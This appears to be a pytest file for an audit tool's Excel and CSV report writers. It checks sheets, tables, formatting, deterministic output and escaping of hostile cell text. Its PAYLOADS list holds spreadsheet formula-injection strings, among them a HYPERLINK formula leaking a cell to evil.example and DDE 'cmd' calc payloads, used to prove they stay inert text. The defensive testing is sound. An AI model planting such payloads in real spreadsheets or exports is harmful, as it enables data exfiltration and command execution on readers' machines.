"""The Excel workbook and the CSV gap list, reloaded with openpyxl and the csv module as a reader would
open them: sheets, the tables and their ranges, frozen headers, severity colours, the chart, cell types,
printing, a table continued on a second sheet, and partner names made of formula-injection payloads."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import re
import shutil
import subprocess
import time
import types
import zipfile
from pathlib import Path

import openpyxl
import openpyxl.writer.excel
import pytest
import yaml

from helpers import ROOT, TESTS
from nofakes.audit.engine import run_audit
from nofakes.packs.catalogue import resolve_pack
from nofakes.reports.base import RenderOptions
from nofakes.reports.cells import CELL_CHARS, cell_text, csv_text, starts_formula
from nofakes.reports.csv_report import CsvFormatter
from nofakes.reports.registry import FORMATS
from nofakes.reports.tables import GAP_COLUMNS, gap_rows
from nofakes.reports.view import ReportView, build_view
from nofakes.reports.xlsx import SHEET_ROWS, XlsxFormatter, sheet_parts
from nofakes.supply.loading import load_supply

FIXTURES = TESTS / "fixtures" / "reports"
PACK = FIXTURES / "pack.yaml"
SHEETS = ["Summary", "Gaps", "Remediation plan", "Plan by partner", "Partners", "Rules", "Waivers", "Run"]
RISK_SHEETS = [*SHEETS[:5], "Risk", "Highest exposure", *SHEETS[5:]]  # the audit's default: with a risk profile
PAYLOADS = [  # the first names the company, the next five the partners, the last three the waiver reasons
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "\u202eevil\u202c name\uffff", "+SUM(1+1)",
    "-2+3*cmd|' /C calc'!A0", "@SUM(1+1)", "Nul\x00Bell\x07Esc\x1b[31mName", "\t=1+1", "\r=1+1", "=cmd|'/C calc'!A0",
]


@pytest.fixture(autouse=True)
def _run_from_root(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)


def view_of(path: Path, **options: object) -> ReportView:
    return build_view(run_audit(load_supply(path), [resolve_pack(str(PACK))]), RenderOptions(**options))  # type: ignore[arg-type]


def workbook(view: ReportView, formatter: XlsxFormatter | None = None) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO((formatter or XlsxFormatter()).render(view)))


def csv_rows(view: ReportView) -> list[list[str]]:
    data = CsvFormatter().render(view)
    assert data.startswith(b"\xef\xbb\xbf")  # the byte order mark Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def gap_sheet_rows(book: openpyxl.Workbook, title: str = "Gaps") -> list[tuple[object, ...]]:
    return list(book[title].iter_rows(min_row=2, values_only=True))


@pytest.fixture(scope="module")
def view() -> ReportView:
    return view_of(FIXTURES / "supply.yaml")


def test_the_same_inputs_give_the_same_workbook_bytes_whenever_it_is_written(
        view: ReportView, monkeypatch: pytest.MonkeyPatch) -> None:
    first = XlsxFormatter().render(view)
    # a clock 400 days later for the zip entries and for openpyxl's "modified" stamp
    later, localtime = time.time() + 400 * 86400, time.localtime
    monkeypatch.setattr(time, "localtime", lambda seconds=None: localtime(later))

    class Later(dt.datetime):
        @classmethod
        def now(cls, tz: dt.tzinfo | None = None) -> Later:
            return cls.fromtimestamp(later, tz)

    monkeypatch.setattr(openpyxl.writer.excel, "datetime", types.SimpleNamespace(datetime=Later, timezone=dt.timezone))
    assert XlsxFormatter().render(view) == first
    archive = zipfile.ZipFile(io.BytesIO(first))
    assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    core = archive.read("docProps/core.xml").decode()
    stamp = f"{view.as_of.isoformat()}T00:00:00Z"
    assert f'<dcterms:created xsi:type="dcterms:W3CDTF">{stamp}</dcterms:created>' in core
    assert f'<dcterms:modified xsi:type="dcterms:W3CDTF">{stamp}</dcterms:modified>' in core
    assert openpyxl.load_workbook(io.BytesIO(first)).properties.creator == "nofakes"


def test_the_workbook_has_every_sheet_with_a_table_a_frozen_header_and_print_settings(view: ReportView) -> None:
    book = workbook(view)
    assert book.sheetnames == SHEETS
    expected = {"Gaps": len(view.gaps), "Remediation plan": len(view.plan),
                "Plan by partner": len(view.plan_by_partner), "Partners": len(view.partners),
                "Rules": len(view.rules), "Waivers": 3}
    for title, rows in expected.items():
        sheet = book[title]
        (table,) = sheet.tables.values()
        width = sheet.max_column
        assert table.ref == f"A1:{openpyxl.utils.get_column_letter(width)}{rows + 1}"
        assert [c.name for c in table.tableColumns] == [c.value for c in sheet[1]]
        assert table.autoFilter.ref == table.ref  # filter buttons
        assert sheet.freeze_panes == "A2" and sheet.print_title_rows == "$1:$1"
        assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
        assert sheet.page_setup.fitToHeight == 0 and sheet.sheet_properties.pageSetUpPr.fitToPage
        assert all(sheet.column_dimensions[c].width > 5 for c in "ABC")
    assert [c.value for c in book["Gaps"][1]] == [c.header for c in GAP_COLUMNS]


def test_gaps_are_the_views_gaps_in_its_order_with_severity_colours(view: ReportView) -> None:
    book = workbook(view)
    rows = gap_sheet_rows(book)
    assert [(r[7], r[11], r[1]) for r in rows] == [
        (f.rule_id, f.subject, "failing" if f.status.value == "fail" else "waived") for f in view.gaps]
    assert rows[-1][1] == "waived" and rows[0][0] == view.failing[0].severity.value
    formats = book["Gaps"].conditional_formatting
    ranges = {str(cf.sqref): [rule.formula[0] for rule in cf.rules] for cf in formats}
    assert ranges == {f"A2:A{len(rows) + 1}": ['"critical"', '"high"', '"medium"', '"low"', '"info"']}
    critical = next(rule for cf in formats for rule in cf.rules if rule.formula == ['"critical"'])
    assert critical.dxf.fill.bgColor.rgb.endswith("C00000")
    wrapped = book["Gaps"]["M2"]  # Message
    assert wrapped.alignment.wrap_text and book["Gaps"]["A2"].alignment.vertical == "top"


def test_cells_are_typed_dates_numbers_and_text(view: ReportView) -> None:
    book = workbook(view)
    summary = {row[0]: row[1:] for row in book["Summary"].iter_rows(values_only=True) if row and row[0]}
    assert summary["As of"][0] == dt.datetime(2026, 11, 1)
    assert summary["Verdict"][0] == ("PASS" if view.verdict.passed else "FAIL")
    assert summary["Rules selected"][0] == view.coverage.rules_selected
    assert summary["Why"][0] == view.verdict.reasons[0] and summary["Coverage"][0] == view.coverage.text()
    assert {name: summary[name][0] for name in view.verdict.failed_by_severity} == dict(view.verdict.failed_by_severity)
    overall = summary["Overall"]
    assert overall[1] == pytest.approx(view.overall.value) and overall[2] == pytest.approx(view.overall.numerator)
    assert overall[3] == pytest.approx(view.overall.denominator)
    assert book["Summary"]["C" + str(_row_of(book["Summary"], "Overall"))].number_format == "0.0"
    waivers = gap_sheet_rows(book, "Waivers")
    assert [r[0] for r in waivers] == ["active", "expired", "unused"]
    assert all(isinstance(r[5], dt.datetime) for r in waivers)
    assert book["Waivers"]["F2"].number_format == "yyyy-mm-dd"
    partners = {r[0]: r for r in gap_sheet_rows(book, "Partners")}
    scores = {p.partner: p for p in view.scores.partners}
    for partner_id, row in partners.items():
        assert row[4] == view.partners[partner_id].tier and (row[4] is None or isinstance(row[4], int))
        if partner_id in scores:
            assert row[5] == pytest.approx(scores[partner_id].score.value) and isinstance(row[5], (int, float))
            assert row[8] == scores[partner_id].failed
        assert sum(row[10:15]) == sum(1 for f in view.failing if f.partner == partner_id)
    plan = gap_sheet_rows(book, "Remediation plan")
    assert [r[0] for r in plan] == [s.rank for s in view.plan]
    assert plan[-1][10] == pytest.approx(view.plan[-1].projected)
    run = {row[0]: row[1:] for row in book["Run"].iter_rows(values_only=True) if row and row[0]}
    assert run["Input hash (SHA-256)"][0] == view.input_hash
    assert run[view.packs[0].id][3] == view.packs[0].sha256
    numbers = {k: v for k, v in view.parameters.items() if isinstance(v, int) and not isinstance(v, bool)}
    assert numbers and all(run[name][0] == value for name, value in numbers.items())


def _row_of(sheet: object, label: str) -> int:
    return next(cell.row for cell in sheet["A"] if cell.value == label)  # type: ignore[attr-defined]


def test_the_summary_charts_the_section_scores(view: ReportView) -> None:
    book = workbook(view)
    (chart,) = book["Summary"]._charts
    assert chart.type == "bar" and chart.title is not None
    (series,) = chart.series
    first = _row_of(book["Summary"], f"{view.section_order[0][0]} / {view.section_order[0][1]}")
    last = first + len(view.section_order) - 1
    assert series.val.numRef.f.replace("'", "") == f"Summary!$C${first}:$C${last}"  # the section scores
    categories = series.cat.strRef or series.cat.numRef
    assert categories.f.replace("'", "") == f"Summary!$B${first}:$B${last}"  # their titles


def test_a_table_longer_than_a_sheet_continues_on_the_next_and_the_summary_says_so(view: ReportView) -> None:
    assert (sheet_parts(0), sheet_parts(SHEET_ROWS - 1), sheet_parts(SHEET_ROWS)) == (1, 1, 2)
    small = XlsxFormatter()
    small.sheet_rows = 3  # a header and two rows per sheet
    book = workbook(view, small)
    parts = sheet_parts(len(view.gaps), 3)
    assert parts >= 2
    gaps = ["Gaps"] + [f"Gaps ({n})" for n in range(2, parts + 1)]
    assert book.sheetnames[1:1 + parts] == gaps
    rows = [row for title in gaps for row in gap_sheet_rows(book, title)]
    assert rows == gap_sheet_rows(workbook(view))  # nothing lost, nothing repeated, same order
    for n, title in enumerate(gaps, start=1):
        (table,) = book[title].tables.values()
        assert table.displayName == ("Gaps" if n == 1 else f"Gaps_{n}")
        assert book[title].freeze_panes == "A2" and book[title].max_row <= 3
    notes = [row[1] for row in book["Summary"].iter_rows(values_only=True) if row[0] == "Note"]
    assert f"Gaps is longer than an Excel sheet holds: it continues on {', '.join(gaps[1:])}." in notes


def test_csv_has_the_gap_columns_one_row_per_gap_in_the_views_order(view: ReportView) -> None:
    rows = csv_rows(view)
    assert rows[0] == [c.header for c in GAP_COLUMNS]
    assert len(rows) == len(view.gaps) + 1
    sheet = gap_sheet_rows(workbook(view))
    assert rows[1:] == [["" if v is None else str(v) for v in row] for row in sheet]


def payload_supply(tmp_path: Path) -> Path:
    """The report fixture with every partner name, the company name and the waiver reasons made of payloads."""
    data = yaml.safe_load((FIXTURES / "supply.yaml").read_text(encoding="utf-8"))
    more = yaml.safe_load((FIXTURES / "more.yaml").read_text(encoding="utf-8"))
    names = iter(PAYLOADS[1:])
    for node in data["nodes"] + more["nodes"]:
        node["name"] = next(names)
    data["company"]["name"] = PAYLOADS[0]  # on the Summary, the sheet LibreOffice converts to CSV
    for waiver in data["waivers"] + more["waivers"]:
        waiver["reason"] = next(names)
    data["include"] = ["more.json"]
    (tmp_path / "more.json").write_text(json.dumps(more, default=str), encoding="utf-8")
    path = tmp_path / "supply.json"
    path.write_text(json.dumps(data, default=str), encoding="utf-8")
    return path


def test_formula_payloads_are_text_in_both_formats_and_unsafe_characters_are_gone(tmp_path: Path) -> None:
    view = view_of(payload_supply(tmp_path))
    book = workbook(view)
    seen, texts = set(), set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    assert not any(ch in cell.value for ch in "\x00\x07\x1b\u202e\u202c\uffff")
                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
                        seen.add(cell.value)
    assert {cell_text(p) for p in PAYLOADS if starts_formula(cell_text(p))} <= seen  # all there, as text
    assert {cell_text(p) for p in PAYLOADS} <= texts  # "NulBellEsc[31mName", "evil name": kept, made safe
    fields = [field for row in csv_rows(view) for field in row]
    texts_only = [f for f in fields if not re.fullmatch(r"-?\d+(\.\d+)?", f)]  # a tier of -2 is a number
    assert texts_only and not any(f.startswith(("=", "+", "-", "@", "\t", "\r")) for f in texts_only)
    risky = {cell_text(v) for row in gap_rows(view) for v in row if isinstance(v, str) and starts_formula(cell_text(v))}
    assert len(risky) >= 3 and {"'" + text for text in risky} <= set(fields)  # kept, behind an apostrophe
    assert not any(ch in f for f in fields for ch in "\x00\x07\x1b\u202e\uffff")


def test_cell_text_keeps_line_breaks_and_shortens_what_a_cell_cannot_hold() -> None:
    assert cell_text("two\nlines\tand a tab") == "two\nlines\tand a tab"
    long = "a" * CELL_CHARS + "tail"
    shortened = cell_text(long)
    assert len(shortened) == CELL_CHARS and shortened.endswith("tail") and "…" in shortened
    assert csv_text("-5") == "'-5" and csv_text("plain") == "plain" and csv_text("\x00=1") == "'=1"


def test_xlsx_is_a_binary_format_and_the_cli_writes_both_formats(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from nofakes.cli.main import cli

    assert FORMATS["xlsx"].binary and not FORMATS["csv"].binary
    runner = CliRunner()
    for fmt in ("xlsx", "csv"):
        target = tmp_path / f"gaps.{fmt}"
        result = runner.invoke(cli, ["audit", str(FIXTURES / "supply.yaml"), "-g", str(PACK), "--format", fmt,
                                     "-o", str(target)])
        assert result.exit_code in (0, 1), result.output
        assert f"wrote {fmt} report to {target}" in result.stderr
    assert openpyxl.load_workbook(tmp_path / "gaps.xlsx").sheetnames == RISK_SHEETS
    assert (tmp_path / "gaps.csv").read_bytes().startswith("\ufeffSeverity,Status".encode())


def _soffice(source: Path, to: str, tmp_path: Path) -> Path:
    profile = tmp_path / "profile"  # a fresh LibreOffice profile: no state shared with other runs
    proc = subprocess.run(["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", to,
                           "--outdir", str(tmp_path / to), str(source)], capture_output=True, text=True, timeout=180)
    converted = tmp_path / to / source.with_suffix(f".{to}").name
    assert proc.returncode == 0 and converted.exists(), proc.stderr
    return converted


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_calc_opens_the_workbook_and_shows_payloads_as_text(view: ReportView, tmp_path: Path) -> None:
    source = tmp_path / "gaps.xlsx"
    source.write_bytes(XlsxFormatter().render(view))
    data = _soffice(source, "pdf", tmp_path).read_bytes()
    assert data.startswith(b"%PDF") and len(re.findall(rb"/Type\s*/Page\b", data)) >= len(SHEETS)  # a page a sheet
    hostile = tmp_path / "hostile.xlsx"
    hostile.write_bytes(XlsxFormatter().render(view_of(payload_supply(tmp_path))))
    summary = _soffice(hostile, "csv", tmp_path).read_text(encoding="utf-8", errors="replace")  # the first sheet
    rows = {row[0]: row[1:] for row in csv.reader(io.StringIO(summary)) if row}
    assert rows["Overall"][0] == PAYLOADS[0]  # the text itself: not evaluated, no link, no error value


def test_a_report_without_gaps_still_has_valid_empty_tables(view: ReportView) -> None:
    clean = dataclasses.replace(view, failing=(), waived=(), plan=(), plan_by_partner=())
    book = workbook(clean)
    for title in ("Gaps", "Remediation plan", "Plan by partner"):
        (table,) = book[title].tables.values()
        assert table.ref.endswith("2") and book[title].max_row == 1  # a header and one empty row: Excel's minimum
        assert not list(book[title].conditional_formatting)
    assert csv_rows(clean) == [[c.header for c in GAP_COLUMNS]]


def test_the_workbook_is_refused_on_a_terminal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from click.testing import CliRunner

    import nofakes.cli.output
    from nofakes.cli.main import cli

    monkeypatch.setattr(nofakes.cli.output, "stdout_is_terminal", lambda: True)
    result = CliRunner().invoke(cli, ["audit", str(FIXTURES / "supply.yaml"), "-g", str(PACK), "--format", "xlsx"])
    assert result.exit_code == 2 and "this report format is binary" in result.stderr


class _Pipe(io.BytesIO):
    """A stream that cannot seek or tell, as standard output redirected to a pipe."""

    def seekable(self) -> bool:
        return False

    def seek(self, *_: object) -> int:
        raise io.UnsupportedOperation("seek")

    def tell(self) -> int:
        raise io.UnsupportedOperation("tell")


def test_the_workbook_streams_to_a_pipe(view: ReportView) -> None:
    pipe = _Pipe()
    XlsxFormatter().write(view, pipe)
    book = openpyxl.load_workbook(io.BytesIO(pipe.getvalue()))
    assert book.sheetnames == SHEETS and gap_sheet_rows(book) == gap_sheet_rows(workbook(view))


def test_cell_text_drops_what_a_spreadsheet_cannot_hold() -> None:
    # the loaders refuse lone surrogates; the cells stay safe for any text that reaches them
    assert cell_text("A\ud800\uffff\x00B\u202e") == "AB"
